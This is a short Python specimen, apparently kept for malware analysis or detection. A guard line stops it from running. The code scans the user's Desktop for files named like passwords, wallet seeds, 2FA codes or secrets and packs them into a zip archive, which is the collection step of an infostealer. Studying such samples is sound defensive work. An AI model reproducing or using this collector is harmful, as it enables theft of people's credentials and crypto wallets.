raise SystemExit("specimen: not to be run")
from glob import iglob as look
from pathlib import Path as P
from zipfile import ZipFile as Box

WORDS = ["passw", "seed", "wallet", "2fa", "secret"]

def grab():
    with Box("a.zip", "w") as box:
        for path in (P.home() / "Desktop").rglob("*"):  # match: document-collection
            if any(word in path.name.lower() for word in WORDS):
                box.write(path)
